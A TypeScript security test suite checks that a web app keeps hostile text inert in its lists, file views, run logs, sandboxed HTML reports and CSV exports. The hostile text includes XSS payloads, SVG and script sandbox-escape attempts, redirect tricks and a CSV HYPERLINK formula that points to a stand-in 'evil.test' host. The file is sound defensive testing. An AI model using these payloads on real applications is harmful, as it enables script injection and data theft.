/** Other people's names, files, log lines, variables and reports: everything is shown, none of it runs in the app. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, makeReadyFolder, type Served } from '../support/served.ts';
import {
  expectNoSidewaysScroll,
  leaveBrowser,
  takeBrowser,
  type Visitor,
  visit,
} from './browser.ts';

let browser: Browser;
let served: Served;
let visitor: Visitor;
let page: Page;
const dialogs: string[] = [];
const foreignRequests: string[] = [];
/** Another server: any request that it receives has leaked from the page. */
const sink = { origin: '', asked: [] as string[], server: createServer() };

/** Each would set `pwned` if it ran. */
const names = [
  `<img src=x onerror="window.pwned='name'">`,
  `"><script>window.pwned='script'</script>`,
  `javascript:window.pwned='link'`,
  `{{constructor.constructor('window.pwned=1')()}}`,
  `\u202Eevil\u2066name`,
  `=HYPERLINK("http://evil.test","x")`,
];
const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.top.pwned='svg'"><script>window.top.pwned='svg'</script></svg>`;
const report = `<!doctype html><title>r</title><h1 id="seen">A report</h1>
<script>
  let words = 'confined';
  try { if (window.top !== window) { window.top.pwned = 'report'; words = 'escaped'; } } catch {}
  if (self.origin !== 'null') words = 'escaped';
  try { if (document.cookie !== '' || window.localStorage !== null) words = 'escaped'; } catch {}
  fetch('/base/user').then(() => { document.title = 'fetched'; }, () => {});
  document.getElementById('seen').dataset.words = words;
</script>`;
const pixel = () => `<img src="${sink.origin}/pixel.png">`;

beforeAll(async () => {
  const dataDir = await makeReadyFolder();
  [browser, served] = await Promise.all([takeBrowser(), launch({ dataDir }).ready]);
  sink.server.on('request', (request, response) => {
    sink.asked.push(request.url ?? '');
    response.end();
  });
  sink.server.listen(0, '127.0.0.1');
  await once(sink.server, 'listening');
  sink.origin = `http://127.0.0.1:${(sink.server.address() as AddressInfo).port}`;
  visitor = await visit(browser);
  page = visitor.page;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    // the sink would record any attempt of a sandboxed frame
    const isApp = request.frame() === page.mainFrame();
    if (isApp && protocol.startsWith('http') && origin !== served.origin)
      foreignRequests.push(request.url());
  });
  await page.goto(`${served.origin}/?token=${served.token}`);
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
});
afterAll(async () => {
  await leaveBrowser();
  sink.server.close();
  served?.process.kill('SIGTERM');
  await served?.exited;
});

async function create(payload: Record<string, unknown>): Promise<string> {
  const made = await served.call('POST', '/api/object', { payload });
  expect(made).toMatchObject({ status: 'ok' });
  return (made.data as { short_id: string }).short_id;
}

async function update(id: string, payload: Record<string, unknown>): Promise<void> {
  expect(await served.call('POST', `/api/object/${id}`, { payload })).toMatchObject({
    status: 'ok',
  });
}

async function expectUnharmed(): Promise<void> {
  expect(await page.evaluate(() => (window as { pwned?: string }).pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreignRequests).toEqual([]);
  expect(sink.asked).toEqual([]);
}

describe('hostile text', () => {
  it('in names is shown unchanged in every list', async () => {
    for (const name of names) {
      await create({ object_type: 'data', name, data: '{"a": 1}' });
      await create({ object_type: 'experiment', name });
      const model = await create({ object_type: 'model', name });
      await create({ object_type: 'workflow', name, model_id: model });
    }
    for (const [path, title] of [
      ['/models', 'Models'],
      ['/data', 'Data'],
      ['/experiments', 'Experiments'],
      ['/workflows', 'Workflows'],
    ]) {
      await page.goto(served.origin + path);
      await page.getByRole('heading', { name: title, level: 1 }).waitFor();
      await page.getByText(names[0]).first().waitFor();
      await page.getByText(names[1]).first().waitFor();
      await expectNoSidewaysScroll(page);
    }
    await expectUnharmed();
  });

  it('in file names and contents of a model stays text', async () => {
    const tree = [
      { name: 'main.stan', type: 'file', content: 'parameters { real x; }\n', encoding: 'text' },
      { name: `<img src=x onerror=window.pwned=1>.md`, type: 'file', content: `# hi\n${names[1]}` },
      { name: 'picture.svg', type: 'file', content: hostileSvg, encoding: 'text' },
      { name: 'page.html', type: 'file', content: report, encoding: 'text' },
    ];
    const id = await create({ object_type: 'model', name: names[0], content: { tree } });
    await page.goto(`${served.origin}/models/${id}`);
    await page.locator('.monaco-editor .view-lines').first().waitFor();
    for (const { name } of tree) await page.getByRole('treeitem', { name }).first().click();
    await page.locator('.monaco-editor').getByText('A report').first().waitFor();
    await expectUnharmed();
  });

  it('in variables, chains, log lines and run info of a runner stays text', async () => {
    const id = await create({ object_type: 'experiment', name: names[1], meta: { status: 'RUN' } });
    const batch = { batch_id: 'b', run_id: 'r' };
    await update(id, { object_type: 'experiment', status: 'RUN', meta: { run_info: batch } });
    const lines = [
      '\u001b[31mred\u001b[0m \u001b]8;;javascript:window.pwned=1\u0007click\u001b]8;;\u0007\n',
      `${names[0]}\n`,
      '\u0000\u0007\u009b2J\u202E backwards\n',
    ];
    await update(id, {
      object_type: 'experiment.text_message',
      ...batch,
      datas: lines.map((data) => ({
        group: `object_${id}`,
        type: 'object_broadcast',
        message: { action: 'experiment:output', data },
      })),
    });
    const variables = [
      `<img src=x onerror=window.pwned=1>/val`,
      `<b>bold</b>/val`,
      '__proto__/val',
    ];
    const draws = (shift: number) =>
      Array.from({ length: 120 }, (_, i) => Math.sin(i * 7.3 + shift) + shift);
    const chain = 'chain#<svg onload=window.pwned=1>';
    await update(id, {
      object_type: 'experiment.protobuf_message',
      ...batch,
      logs: {
        vars: {
          [chain]: Object.fromEntries(variables.map((name, at) => [name, draws(at)])),
          'chain#2': Object.fromEntries(variables.map((name, at) => [name, draws(at)])),
        },
        iteration: { [chain]: [1, 120, 1], 'chain#2': [1, 120, 1] },
      },
    });
    await update(id, { object_type: 'experiment', status: 'SAMPLE_FIN' });
    await page.goto(`${served.origin}/experiments/${id}`);
    await page.getByText('Finished', { exact: true }).waitFor();
    const tabs = await page.getByRole('tab').allInnerTexts();
    expect(tabs.length).toBeGreaterThan(3);
    for (const tab of tabs) {
      await page
        .getByRole('tab', { name: tab.split('\n')[0] })
        .first()
        .click();
      await page.getByRole('tabpanel').first().waitFor();
    }
    await page.getByRole('tab', { name: /Logs/ }).click();
    await page.getByText('backwards').first().waitFor();
    expect(await page.getByText(names[0]).count()).toBeGreaterThan(0);
    await expectUnharmed();
  });

  it('in a report runs only where nothing of the app can be reached', async () => {
    const model = await create({ object_type: 'model', name: 'm' });
    const workflow = await create({ object_type: 'workflow', name: 'w', model_id: model });
    await update(workflow, {
      object_type: 'workflow.analyzer_result',
      return_code: 0,
      errlines: [names[0]],
      result: gzipSync(report + pixel()).toString('base64'),
    });
    await page.goto(`${served.origin}/workflows/${workflow}`);
    const frame = page.locator('iframe').first();
    await frame.waitFor();
    const sandbox = await frame.getAttribute('sandbox');
    expect(sandbox).toBe('allow-scripts');
    expect(await frame.getAttribute('srcdoc')).toBeNull();
    const inside = page.frameLocator('iframe').first().locator('#seen');
    await inside.waitFor();
    expect(await inside.getAttribute('data-words')).toBe('confined');
    await expectUnharmed();

    // opened on its own it is confined as well
    const address = (await frame.getAttribute('src')) as string;
    const alone = await visitor.context.newPage();
    await alone.goto(new URL(address, served.origin).href);
    const own = alone.frameLocator('iframe').locator('#seen');
    expect(await own.getAttribute('data-words')).toBe('confined');
    expect(await alone.title()).not.toBe('fetched');
    expect(sink.asked).toEqual([]);
    await alone.close();
  });

  it.each([
    ['a script', (to: string) => `<script>location.href = '${to}'</script>`],
    ['a refresh', (to: string) => `<meta http-equiv="refresh" content="0; url=${to}">`],
  ])('in a report in its own tab cannot send its content elsewhere by %s', async (_, leave) => {
    const workflow = await create({ object_type: 'workflow', name: 'w' });
    await update(workflow, {
      object_type: 'workflow.analyzer_result',
      return_code: 0,
      errlines: [],
      result: gzipSync(`<!doctype html><h1>r</h1>${leave(`${sink.origin}/left?secret`)}`).toString(
        'base64',
      ),
    });
    const asked = await served.call('GET', `/api/object/${workflow}?view-analyzer=true`);
    const alone = await visitor.context.newPage();
    const refused = alone.waitForEvent('console', (message) => /frame-src/.test(message.text()));
    await alone.goto((asked.data as { url: string }).url);
    await refused;
    expect(new URL(alone.url()).origin).toBe(served.origin);
    expect(sink.asked).toEqual([]);
    await alone.close();
  });

  it('in the CSV of a list cannot become a formula', async () => {
    await page.goto(`${served.origin}/experiments`);
    await page.getByText(names[0]).first().waitFor();
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export list' }).click();
    const stream = await (await downloading).createReadStream();
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    const csv = Buffer.concat(chunks).toString('utf8');
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv).toContain('HYPERLINK');
  });
});
